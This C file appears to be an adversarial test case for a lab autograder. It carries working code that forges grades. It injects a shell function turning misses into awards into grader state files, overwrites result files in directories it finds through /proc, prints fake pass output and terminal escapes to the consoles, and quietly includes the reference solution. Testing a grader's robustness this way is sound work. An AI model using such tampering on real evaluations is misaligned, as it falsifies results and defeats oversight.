// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile startup (labs/README.md, "Threat model"): it measures
 * nothing, and tries to grade itself instead, in every mode (stats,
 * time, fit; as nobody on the host, as root in the lab VM):
 *  - it appends the bash framework's `miss() { award "$@"; }` and a
 *    forged record to every file named like grader state (env,
 *    facts.json) near its own directory and the working directory of
 *    every process it can see, and writes over results.json, grade.tap
 *    and grade.txt wherever it can;
 *  - it compiles the solution's startup.c in, if it can reach it: then
 *    it attacks nothing and works as the solution does;
 *  - it prints forged TAP, "passed", totals, JSON, a guess at a record,
 *    terminal escapes and 4 MiB of it, to its output and to the
 *    consoles.
 * It must score what the skeleton scores.
 */
#if __has_include("../../../../../labs/05-startup-density/solution/startup.c")
#include "../../../../../labs/05-startup-density/solution/startup.c"
#define main attack_main
#elif __has_include("../../../../../../../labs/05-startup-density/solution/startup.c")
#include "../../../../../../../labs/05-startup-density/solution/startup.c"
#define main attack_main
#elif __has_include("/autograder/ctlab/labs/05-startup-density/solution/startup.c")
#include "/autograder/ctlab/labs/05-startup-density/solution/startup.c"
#define main attack_main
#else
#include <stdarg.h>
#include <stdlib.h>

#include "startup.h"

void die(const char *fmt, ...)
{
	(void)fmt;
	exit(1);
}

double now(void)
{
	return 0;
}
#endif

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char forged[] =
	"miss() { award \"$@\"; }\n"
	"ok 1 - vm_time [6/6]\nok 2 - ct_time [6/6]\ntotal: 44/44\npassed\n"
	"GRADE1 00000000000000000000000000000000 {\"t\": \"line\", \"k\": \"award\", \"p\": 44, \"m\": \"forged\"}\n"
	"{\"score\": 44, \"tests\": []}\n"
	"\033]0;graded\007\033[2J\033[Hall checks passed\n";

static const char *state_files[] = {
	"env", "../env", "facts.json", "../facts.json", "host.log",
	"vm-containers/grader.log",
};

static const char *result_files[] = {
	"results.json", "grade.tap", "grade.txt", "../results/results.json",
	"../results/grade.tap",
};

static void put(const char *path, int flags)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);

	if (fd < 0)
		return;
	if (write(fd, forged, strlen(forged)) < 0)
		fprintf(stderr, "write %s failed\n", path);
	close(fd);
}

static void attack_dir(const char *dir)
{
	char path[4096];
	unsigned int i;

	for (i = 0; i < sizeof(state_files) / sizeof(state_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, state_files[i]);
		put(path, O_APPEND);
	}
	for (i = 0; i < sizeof(result_files) / sizeof(result_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, result_files[i]);
		put(path, O_TRUNC | O_CREAT);
	}
}

static void attack_everywhere(void)
{
	char link[64], dir[4096];
	struct dirent *e;
	DIR *proc = opendir("/proc");
	ssize_t n;

	while (proc && (e = readdir(proc))) {
		snprintf(link, sizeof(link), "/proc/%.20s/cwd", e->d_name);
		n = readlink(link, dir, sizeof(dir) - 1);
		if (n > 0) {
			dir[n] = '\0';
			attack_dir(dir);
		}
	}
	if (proc)
		closedir(proc);
	if (getcwd(dir, sizeof(dir))) {
		while (strlen(dir) > 1) {
			attack_dir(dir);
			*strrchr(dir, '/') = '\0';
		}
	}
	attack_dir("/run/labvm");
	attack_dir("/tmp");
}

int main(int argc, char **argv);
int main(int argc, char **argv)
{
	static char lots[1 << 16];
	int i;

	(void)argc;
	(void)argv;
	attack_everywhere();
	put("/dev/console", 0);
	put("/dev/ttyS0", 0);
	put("/dev/kmsg", 0);
	memset(lots, 'x', sizeof(lots));
	for (i = 0; i < 64; i++) {
		fputs(forged, stdout);
		fputs(forged, stderr);
		fwrite(lots, 1, sizeof(lots), stdout);
	}
	return 0;
}
